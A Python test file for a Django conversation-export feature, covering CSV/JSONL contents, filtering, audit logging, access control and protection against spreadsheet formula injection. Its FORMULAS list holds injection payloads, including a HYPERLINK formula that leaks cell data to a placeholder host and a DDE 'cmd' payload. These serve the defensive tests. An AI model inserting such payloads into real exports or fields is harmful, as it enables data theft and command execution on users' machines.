"""The export: exactly what is filtered, recorded before it is sent, harmless in a spreadsheet."""

import csv
import hashlib
import io
import json
import re
import tracemalloc
import unicodedata
from datetime import datetime, timedelta, timezone
from typing import Any

import pytest
from django.db import DatabaseError, connection
from django.test import Client
from hypothesis import given
from hypothesis import strategies as st

from service.console import audit, export
from service.console.models import AuditEntry
from service.conversations.models import Conversation, Message, Verdict
from tests.console.conftest import talk, turn

pytestmark = pytest.mark.django_db
CSV, JSONL = "/conversations/export.csv", "/conversations/export.jsonl"
AT = datetime(2026, 9, 10, 12, 0, 0, 250000, tzinfo=timezone.utc)
WORDS = "Zacharias has a seizure"


def rows_of_csv(browser: Client, **filters: Any) -> list[dict[str, str]]:
    response = browser.get(CSV, filters)
    assert response.status_code == 200
    text = response.getvalue().decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def rows_of_jsonl(browser: Client, **filters: Any) -> list[dict[str, Any]]:
    response = browser.get(JSONL, filters)
    assert response.status_code == 200
    return [json.loads(line) for line in response.getvalue().decode().splitlines()]


def test_each_message_is_a_row_with_all_that_is_known_of_it(reviewer: Client) -> None:
    conversation = talk(turn(WORDS, "emergency", ["seizure"], "emergency_report", "ask_overdose", 0.75, at=AT))
    Conversation.objects.filter(pk=conversation.pk).update(is_flagged=True, assignee="a.ndiaye")
    said, answer = Message.objects.filter(conversation=conversation)
    Verdict.objects.create(message=said, code="right_answer", by="a.ndiaye")
    first, second = rows_of_jsonl(reviewer)
    assert first == {
        "conversation": conversation.pk,
        "demo": False,
        "channel": "web",
        "message": said.pk,
        "direction": "in",
        "said_at": "2026-09-10T12:00:00.250Z",
        "text": WORDS,
        "level": "emergency",
        "symptoms": [{"symptom": "seizure", "status": "current", "level": "emergency"}],
        "intent": "ask_overdose",
        "confidence": 0.75,
        "answer_id": "",
        "answer_version": "",
        "feedback": "",
        "latency_ms": 80,
        "delivery": "sent",
        "triage_version": "t1",
        "model_version": "",
        "verdict": "right_answer",
        "right_topic": "",
        "right_level": "",
        "state": "new",
        "flagged": True,
        "assignee": "a.ndiaye",
        "reviewer": "",
    }
    assert second["direction"] == "out" and second["text"] == answer.text and second["answer_id"] == "emergency_report"
    assert (second["confidence"], second["latency_ms"], second["verdict"]) == (None, None, "")


def test_both_files_say_the_same(reviewer: Client) -> None:
    talk(turn(WORDS, "emergency", ["seizure", "self_harm"]), turn("nein, äh… “ja”", confidence=None))
    table, lines = rows_of_csv(reviewer), rows_of_jsonl(reviewer)
    assert len(table) == len(lines) == 4
    assert list(table[0]) == list(lines[0])
    for name in ("conversation", "message", "said_at", "text", "level", "intent", "answer_id", "state"):
        assert [row[name] for row in table] == [str(row[name]) for row in lines]
    assert table[0]["symptoms"] == "seizure (current); self_harm (current)"
    assert (table[0]["demo"], table[0]["flagged"], table[2]["confidence"]) == ("no", "no", "")


def test_nobodys_channel_id_leaves_the_house(reviewer: Client) -> None:
    talk(turn("hello"), key="+4915112345678")
    for address in (CSV, JSONL):
        assert b"4915112345678" not in reviewer.get(address).getvalue()


def test_demo_conversations_are_marked(reviewer: Client) -> None:
    Conversation.objects.filter(pk=talk(turn("hello")).pk).update(is_demo=True)
    assert {row["demo"] for row in rows_of_csv(reviewer)} == {"yes"}
    assert {row["demo"] for row in rows_of_jsonl(reviewer)} == {True}


def test_what_is_filtered_is_exported_and_nothing_else(reviewer: Client) -> None:
    kept = [
        talk(turn(f"my pump {one}", answer_id="pump_problem", at=AT), turn("thanks", at=AT + timedelta(minutes=1)))
        for one in range(3)
    ]
    talk(turn("my pump", answer_id="why_taper"))
    talk(turn("tablets", answer_id="pump_problem"))
    rows = rows_of_jsonl(reviewer, topic="pump_problem", words="pump")
    assert [row["conversation"] for row in rows] == [one.pk for one in reversed(kept) for _ in range(4)]
    assert [row["text"] for row in rows[:4]] == [
        "my pump 2",
        "Vetted text of pump_problem.",
        "thanks",
        "Vetted text of why_taper.",
    ]
    assert rows_of_jsonl(reviewer, words="pump", before=kept[1].pk, topic="pump_problem") == rows


def test_the_page_links_to_the_export_of_its_filters(reviewer: Client) -> None:
    talk(turn("my pump", answer_id="pump_problem"))
    page = reviewer.get("/conversations", {"topic": "pump_problem", "words": "my pump", "level": "", "before": "99999"})
    assert f'href="{CSV}?words=my+pump&amp;topic=pump_problem"'.encode() in page.content or (
        f'href="{CSV}?topic=pump_problem&amp;words=my+pump"'.encode() in page.content
    )


def test_an_empty_list_is_a_table_with_its_head(reviewer: Client) -> None:
    assert (
        reviewer.get(CSV).getvalue().decode("utf-8-sig").startswith('"conversation","demo","channel",')
        and rows_of_csv(reviewer) == []
    )
    assert rows_of_jsonl(reviewer) == []


def test_the_table_is_as_spreadsheets_want_it(reviewer: Client) -> None:
    talk(turn('two\nlines, "quoted"\r\nand é'))
    response = reviewer.get(CSV)
    content = response.getvalue()
    assert content.startswith(b'\xef\xbb\xbf"conversation",') and content.endswith(b"\r\n")
    assert b'"two\nlines, ""quoted""\r\nand \xc3\xa9"' in content
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    today = datetime.now(timezone.utc).date().isoformat()
    assert response["Content-Disposition"] == f'attachment; filename="conversations-{today}.csv"'
    assert response["Cache-Control"] == "no-store" and response["X-Content-Type-Options"] == "nosniff"


FORMULAS = [
    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "\u00a0=1", "\u3000＝1", "＝1", "＋1", "－1", "＠A",
    "﹦1", "\ufeff=1", "\u200b=1", "\x01=1", "\t", "\r", "\n", '=HYPERLINK("http://a.example?x="&A1)', "=cmd|' /C'!A0",
    "  \n\t +1", "\tword", "\rword",
]  # fmt: skip


def without_apostrophes(text: str) -> str:
    return text.replace("'", "")


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_is_a_formula(reviewer: Client, text: str) -> None:
    talk(turn(text))
    cell = rows_of_csv(reviewer)[0]["text"]
    assert cell[0] == "'" and without_apostrophes(cell) == without_apostrophes(text)
    assert rows_of_jsonl(reviewer)[0]["text"] == text


@pytest.mark.parametrize("text", ["1+1", "a=b", "word", "", " word", "'=1", "é", "5-10 mg", "😀", "a; b\nc"])
def test_what_is_no_formula_stays_as_it_is(text: str) -> None:
    assert export.harmless(text) == text


@given(st.text(st.characters(blacklist_categories=["Cs"], blacklist_characters="\0"), max_size=40))
def test_whatever_was_written_comes_back_from_the_table(text: str) -> None:
    written = "".join(export.as_csv([dict.fromkeys(export.COLUMNS, text)]))
    (row,) = csv.DictReader(io.StringIO(written.removeprefix("\ufeff"), newline=""))
    assert {without_apostrophes(cell) for cell in row.values()} == {without_apostrophes(text)}
    assert not row["text"].lstrip().startswith(("=", "+", "-", "@"))


@pytest.mark.parametrize("separator", [";", "\t", "\n", "\r\n"])
@pytest.mark.parametrize("formula", ["=1+1", " =1+1", "+1", "-1", "@SUM(A1)", "＝1", '"=1+1&"', "=1+1;=2", "\ufeff=1"])
def test_no_part_of_a_cell_is_a_formula_where_a_spreadsheet_parts_cells_elsewhere(
    reviewer: Client, separator: str, formula: str
) -> None:
    text = f"it hurts{separator}{formula}{separator}thanks"
    talk(turn(text))
    written = reviewer.get(CSV).getvalue().decode("utf-8-sig")
    for delimiter in (",", ";", "\t"):
        for line in written.splitlines():
            for cell in next(csv.reader([line], delimiter=delimiter)):
                first = unicodedata.normalize("NFKC", cell.strip(" \ufeff"))[:1]
                assert first not in tuple("=+-@"), (delimiter, cell)
    assert without_apostrophes(rows_of_csv(reviewer)[0]["text"]) == text
    assert rows_of_jsonl(reviewer)[0]["text"] == text


def test_every_cell_is_in_quotation_marks(reviewer: Client) -> None:
    talk(turn("hello", confidence=None))
    for line in reviewer.get(CSV).getvalue().decode("utf-8-sig").splitlines():
        assert len(re.findall(r'"[^"]*"', line)) == len(export.COLUMNS) == line.count(",") + 1


def test_it_is_recorded_before_the_first_byte_and_without_the_words(reviewer: Client) -> None:
    conversation = talk(turn(WORDS, "emergency", ["seizure"]))
    response = reviewer.get(CSV, {"level": "emergency", "words": "Zacharias seiz"})
    entry = AuditEntry.objects.get(action="conversations exported")  # nothing of the response was read yet
    told = {name: entry.detail.pop(name) for name in ("conversations", "lowest", "highest", "sha256")}
    assert entry.detail == {"format": "csv", "filters": "level=emergency", "words": 2}
    assert told == export.told_of([conversation.pk])
    response.getvalue()
    assert AuditEntry.objects.filter(action__contains="exported").count() == 1
    assert "Zacharias" not in str(list(AuditEntry.objects.values_list("detail", flat=True)))


def test_whether_an_export_held_certain_conversations_can_be_shown_later() -> None:
    told = export.told_of([30, 7, 12])
    expected = hashlib.sha256(b"7,12,30").hexdigest()
    assert told == {"conversations": 3, "lowest": 7, "highest": 30, "sha256": expected}
    assert export.told_of([])["lowest"] is None


def test_what_cannot_be_recorded_is_not_exported(reviewer: Client, monkeypatch: pytest.MonkeyPatch) -> None:
    talk(turn(WORDS))

    def fail(*args: Any, **detail: Any) -> None:
        raise DatabaseError("the disk is full")

    monkeypatch.setattr(audit, "record", fail)
    with pytest.raises(DatabaseError):
        reviewer.get(CSV)


def test_bad_filters_export_nothing(reviewer: Client) -> None:
    talk(turn(WORDS))
    for filters in ({"words": "!!"}, {"level": "worst"}, {"began_from": "x"}):
        response = reviewer.get(CSV, filters)
        assert response.status_code == 400 and b"Zacharias" not in response.getvalue()
    assert not AuditEntry.objects.filter(action="conversations exported").exists()


def test_what_is_erased_meanwhile_is_left_out(reviewer: Client) -> None:
    kept, erased = talk(turn("hello")), talk(turn("good bye"))
    response = reviewer.get(JSONL)
    erased.delete()
    assert {json.loads(line)["conversation"] for line in response.getvalue().decode().splitlines()} == {kept.pk}


def test_memory_stays_flat() -> None:
    begun = [Conversation.begun("web", f"many-{one}", AT) for one in range(1000)]
    conversations = Conversation.objects.bulk_create(begun)
    sizes = []
    for count in (200, 1000):
        Message.objects.all().delete()
        Message.objects.bulk_create(
            Message(
                conversation=one, direction="in", said_at=AT + timedelta(seconds=turn), text="word " * 80, level="none"
            )
            for one in conversations[:count]
            for turn in range(4)
        )
        numbers = export.numbers_of(Conversation.objects.all())
        connection.queries_log.clear()
        tracemalloc.start()
        written = sum(len(part) for part in export.as_csv(export.messages_of(numbers)))
        sizes.append(tracemalloc.get_traced_memory()[1])
        tracemalloc.stop()
        assert written > count * 4 * 400
    assert sizes[1] < sizes[0] * 1.5 and sizes[1] < 8_000_000, sizes


def test_an_export_is_only_read(reviewer: Client) -> None:
    assert [reviewer.post(CSV).status_code, reviewer.head(JSONL).status_code] == [405, 405]
    assert not AuditEntry.objects.filter(action="conversations exported").exists()


def test_someone_who_may_not_sees_nothing(client: Client, viewer: Client) -> None:
    talk(turn(WORDS, "emergency", ["seizure"]))
    for address in (CSV, JSONL):
        response = client.get(address)
        assert response.status_code == 302 and response["Location"].startswith("/sign-in")
        response = viewer.get(address)
        assert (
            response.status_code == 403 and b"Zacharias" not in response.content and b"seizure" not in response.content
        )
    assert b"export." not in viewer.get("/conversations").content
    assert not AuditEntry.objects.filter(action="conversations exported").exists()
